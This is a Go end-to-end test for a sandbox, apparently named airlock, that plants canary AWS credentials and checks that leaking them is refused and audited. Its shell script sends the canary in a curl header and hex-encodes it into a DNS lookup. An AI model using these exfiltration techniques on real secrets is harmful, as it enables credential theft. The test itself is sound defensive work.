package e2e

import (
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/audit"
)

// TestRootCanaryExfiltrationRefused: airlock run plants canary credentials in
// the sandbox ($AWS_ACCESS_KEY_ID, ~/.aws/credentials); sending one to an
// allowed registry, in a header or hex-encoded in a DNS name under it, is
// refused with content_canary and audited without the value, while the
// same request without it passes.
func TestRootCanaryExfiltrationRefused(t *testing.T) {
	e := newEnv(t, "")
	res := e.sh([]string{"--id", sandboxID("canary")}, `
test -n "$AWS_ACCESS_KEY_ID" && echo "env=yes"
grep -q aws_access_key_id "$HOME/.aws/credentials" && echo "file=yes"
echo "clean=$(curl -s -o /dev/null -w '%{http_code}' --max-time 60 https://pypi.org/simple/)"
echo "header=$(curl -s -o /dev/null -w '%{http_code}' --max-time 60 -H "X-Debug: $AWS_ACCESS_KEY_ID" https://pypi.org/simple/)"
label=$(printf %s "$AWS_ACCESS_KEY_ID" | od -An -tx1 | tr -d ' \n')
getent hosts "$label.pypi.org" >/dev/null; echo "dns=$?"
`)
	wantCode(t, res, 0)
	got := kv(res.stdout)
	wantKV(t, got, "env", "yes", res)
	wantKV(t, got, "file", "yes", res)
	wantKV(t, got, "clean", "200", res)
	wantKV(t, got, "header", "403", res)
	if got["dns"] == "0" {
		t.Fatalf("the canary hex-encoded in a DNS name resolved; output:\n%s", res.stdout)
	}
	recs := e.records()
	r := mustFind(t, recs, match{kind: audit.KindHTTP, decision: audit.DecisionDeny, host: "pypi.org", path: "/simple/"})
	if len(r.Reasons) == 0 || r.Reasons[0].ID != "content_canary" || len(r.Findings) == 0 {
		t.Fatalf("header record: got %+v, want content_canary with its finding", r)
	}
	var dnsDenied bool
	for _, x := range recs {
		if x.Kind == audit.KindDNS && x.Decision == audit.DecisionDeny && len(x.Findings) > 0 {
			dnsDenied = true
		}
		for _, f := range x.Findings {
			if f.Fingerprint != "" && strings.Contains(dump([]audit.Record{x}), "AKIA") {
				t.Fatalf("a record holds the canary: %s", dump([]audit.Record{x}))
			}
		}
	}
	if !dnsDenied {
		t.Fatalf("no DNS record denied with a finding; records:\n%s", dump(recs))
	}
}
